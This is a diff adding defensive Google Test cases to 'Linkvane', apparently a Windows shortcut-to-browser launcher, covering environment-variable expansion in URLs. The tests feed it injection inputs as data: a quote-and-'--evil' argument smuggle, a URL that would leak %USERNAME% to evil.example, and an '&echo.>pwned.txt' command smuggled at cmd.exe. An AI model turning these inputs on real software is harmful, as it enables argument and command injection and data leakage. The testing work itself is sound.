@@ -261,6 +261,121 @@ TEST_F(LinkvaneTest, IndentedMultiLineWeblocValueIsNoUrlWithSpaces) {
   EXPECT_EQ(OpenExpectingStart(Quoted(shortcut)), Arguments{L"https://example.com/indented"});
 }
 
+// --- The URL and the template are expanded apart; what the environment brings is asked about.
+
+struct ExpansionCase {
+  const char* name;
+  const char* url_line;  // after "URL="
+  const char* rest;      // browser.dat after the stand-in's quoted path
+  bool has_spaces;       // answered Yes, as the question about the environment is
+  Arguments (*expected)();
+};
+
+std::wstring Variable(const wchar_t* name) {
+  std::wstring value(32767, L'\0');
+  value.resize(::GetEnvironmentVariableW(name, value.data(), 32767));
+  return value;
+}
+
+class ExpansionTest : public LinkvaneTest, public ::testing::WithParamInterface<ExpansionCase> {
+ protected:
+  ScopedEnvironment quote_{L"LV_Q", L"a\" --evil"};
+  ScopedEnvironment backslash_{L"LV_BS", L"dir\\"};
+  ScopedEnvironment data_{L"LV_DATA", L"d"};
+};
+
+TEST_P(ExpansionTest, BrowserGetsTheExpandedUrlAsOneArgument) {
+  const ExpansionCase& expansion = GetParam();
+  WriteBrowserDat(StandinTemplate(expansion.rest));
+  const std::wstring shortcut =
+      WriteFile(L"a.url", std::string("[InternetShortcut]\r\nURL=") + expansion.url_line + "\r\n");
+  std::unique_ptr<LinkvaneRun> run = LaunchWith(Quoted(shortcut));
+  if (expansion.has_spaces) run->AnswerBox(UrlHasSpacesBox(), IDYES);
+  HWND window = nullptr;
+  const std::optional<MessageBoxContent> box = run->WaitForMessageBox(&window);
+  ASSERT_TRUE(box);
+  EXPECT_EQ(box->text.rfind(L"This shortcut puts values from your computer", 0), 0u)
+      << Utf8(box->text);
+  PressButton(window, IDYES);
+  ASSERT_EQ(run->WaitForExit(), kExitStarted);
+  EXPECT_EQ(BrowserArguments(), expansion.expected());
+}
+
+const ExpansionCase kExpansions[] = {
+    {"QuoteInAValue", "https://ex.example/%LV_Q%", "\"%s\"", true,
+     [] { return Arguments{L"https://ex.example/a%22%20--evil"}; }},
+    {"BlankInAValueInAnUnquotedTemplate", "https://ex.example/%ProgramFiles%", "%s", true,
+     [] {
+       std::wstring folder = Variable(L"ProgramFiles");
+       for (std::size_t at; (at = folder.find(L' ')) != std::wstring::npos;) {
+         folder.replace(at, 1, L"%20");
+       }
+       return Arguments{L"https://ex.example/" + folder};
+     }},
+    {"BackslashEndingAValueBeforeTheTemplatesQuote", "https://ex.example/%LV_BS%", "\"%s\" --after",
+     false,
+     [] {
+       return Arguments{L"https://ex.example/dir\\", L"--after"};
+     }},
+    {"UserName", "https://evil.example/?u=%USERNAME%", "%s", false,
+     [] { return Arguments{L"https://evil.example/?u=" + Variable(L"USERNAME")}; }},
+};
+
+INSTANTIATE_TEST_SUITE_P(Urls, ExpansionTest, ::testing::ValuesIn(kExpansions), CaseName());
+
+TEST_F(LinkvaneTest, TheUrlsPercentSignsPairWithNothingOfTheTemplate) {
+  ScopedEnvironment data(L"LV_DATA", L"d");
+  WriteBrowserDat(StandinTemplate("\"%s\" --data=%LV_DATA%"));
+  const std::wstring shortcut =
+      WriteFile(L"a.url", "[InternetShortcut]\r\nURL=https://ex.example/a%2Fb\r\n");
+  EXPECT_EQ(OpenExpectingStart(Quoted(shortcut)),
+            (Arguments{L"https://ex.example/a%2Fb", L"--data=d"}));
+}
+
+TEST_F(LinkvaneTest, NoToAUrlWithTheUsersNameStartsNothing) {
+  ASSERT_FALSE(Variable(L"USERNAME").empty());
+  WriteBrowserDat(StandinTemplate());
+  const std::wstring shortcut =
+      WriteFile(L"a.url", "[InternetShortcut]\r\nURL=https://evil.example/?u=%USERNAME%\r\n");
+  std::unique_ptr<LinkvaneRun> run = LaunchWith(Quoted(shortcut));
+  run->AnswerBox(EnvironmentInUrlBox(L"https://evil.example/?u=" + Variable(L"USERNAME")), IDNO);
+  EXPECT_EQ(run->WaitForExit(), kExitNothingStarted);
+  EXPECT_TRUE(NothingStarted());
+}
+
+TEST_F(LinkvaneTest, AUrlTooLongToExpandStartsNothing) {
+  WriteBrowserDat(StandinTemplate("\"%s\""));
+  const std::string url = "https://ex.example/" + std::string(33000, 'a');
+  const std::wstring shortcut = WriteFile(L"a.url", "[InternetShortcut]\r\nURL=" + url + "\r\n");
+  std::unique_ptr<LinkvaneRun> run = LaunchWith(Quoted(shortcut));
+  HWND window = nullptr;
+  const std::optional<MessageBoxContent> box = run->WaitForMessageBox(&window);
+  ASSERT_TRUE(box);
+  const std::wstring head = L"Sorry, Windows shell could not execute the defined command:\r\n" +
+                            (FromUtf8(StandinTemplate("\"")) + FromUtf8(url)).substr(0, 1024) +
+                            L"...\r\n\r\nError code = 206 (";
+  EXPECT_EQ(box->text.substr(0, head.size()), head);
+  PressButton(window, IDOK);
+  EXPECT_EQ(run->WaitForExit(), kExitStartFailed);
+  EXPECT_TRUE(NothingStarted());
+}
+
+TEST_F(LinkvaneTest, ABatchFileIsNeverGivenAUrl) {
+  WriteFile(L"open.cmd", "@echo %1 > got.txt\r\n");
+  WriteBrowserDat(Utf8(Quoted(InFolder(L"open.cmd"))) + " %s\r\n");
+  const std::wstring shortcut =
+      WriteFile(L"a.url", "[InternetShortcut]\r\nURL=https://ex.example/?a=1&echo.>pwned.txt\r\n");
+  std::unique_ptr<LinkvaneRun> run = LaunchWith(Quoted(shortcut));
+  run->AnswerBox(
+      CannotExecuteBox(Quoted(InFolder(L"open.cmd")) + L" https://ex.example/?a=1&echo.>pwned.txt",
+                       L"50 (A batch file or cmd.exe cannot be given a URL safely; "
+                       L"name the browser's program instead.)"),
+      IDOK);
+  EXPECT_EQ(run->WaitForExit(), kExitStartFailed);
+  EXPECT_FALSE(PathExists(InFolder(L"got.txt")));
+  EXPECT_FALSE(PathExists(InFolder(L"pwned.txt")));
+}
+
 // --- XML entities in .webloc values are decoded.
 
 TEST_F(LinkvaneTest, WeblocEntitiesAreDecoded) {
